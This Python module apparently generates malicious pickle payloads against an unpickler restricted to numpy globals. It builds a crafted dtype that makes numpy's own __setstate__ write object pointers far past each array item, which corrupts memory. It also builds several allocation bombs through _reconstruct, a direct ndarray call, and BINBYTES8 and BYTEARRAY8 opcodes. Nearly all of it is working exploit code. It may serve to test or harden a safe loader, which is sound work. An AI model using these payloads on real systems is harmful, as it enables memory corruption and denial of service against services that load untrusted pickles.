"""Pickles crafted to attack an unpickler that names only allowed globals (numpy arrays and dtypes): memory
corruption through numpy's own __setstate__, and allocation bombs. Built here, byte by byte where needed."""
from __future__ import annotations

import pickle
import struct

import numpy as np

try:
    from numpy._core.multiarray import _reconstruct
except ImportError:  # numpy 1.x
    from numpy.core.multiarray import _reconstruct


class _ObjectFieldPastTheItem:
    """A structured dtype whose one field is an object pointer lying `offset` bytes into an 8-byte item."""

    def __init__(self, offset: int, spec: str):
        self.offset, self.spec = offset, spec

    def __reduce__(self):
        return (np.dtype, (self.spec, False, True),
                (3, "|", None, ("a",), {"a": (np.dtype("O"), self.offset)}, 8, 1, 63))


class _ArrayOf:
    def __init__(self, dtype, n: int):
        self.dtype, self.n = dtype, n

    def __reduce__(self):
        return _reconstruct, (np.ndarray, (0,), b"b"), (1, (self.n,), self.dtype, False, [(i,) for i in range(self.n)])


def out_of_bounds_dtype(key: str = "ep_tdata", offset: int = 1 << 30, n: int = 4, spec: str = "V8") -> bytes:
    """~290 bytes: restoring it makes numpy write n object pointers `offset` bytes past each 8-byte item."""
    return pickle.dumps({key: _ArrayOf(_ObjectFieldPastTheItem(offset, spec), n)}, protocol=2)


class _HugeReconstruct:
    def __reduce__(self):  # numpy's _reconstruct allocates the shape it is given: 21.5 GiB of int8
        return _reconstruct, (np.ndarray, (23_085_449_216,), b"b"), (1, (1,), np.dtype("i1"), False, b"\x00")


def reconstruct_bomb() -> bytes:
    return pickle.dumps({"ep_tdata": _HugeReconstruct()}, protocol=2)


def ndarray_call_bomb() -> bytes:
    """numpy.ndarray((2**31,), '<f8') called directly: 16 GiB."""
    return (b"\x80\x02cnumpy\nndarray\n" + b"\x8a\x05" + (1 << 31).to_bytes(5, "little") + b"\x85"
            + b"X\x03\x00\x00\x00<f8" + b"\x86R.")


def binbytes8_bomb(size: int = 1 << 40) -> bytes:
    """A BINBYTES8 opcode declaring `size` bytes, followed by a few."""
    return b"\x80\x04\x8e" + struct.pack("<Q", size) + b"x" * 16 + b"."


def bytearray8_bomb(size: int = 16 << 30) -> bytes:
    return b"\x80\x05\x96" + struct.pack("<Q", size) + b"x" * 16 + b"."
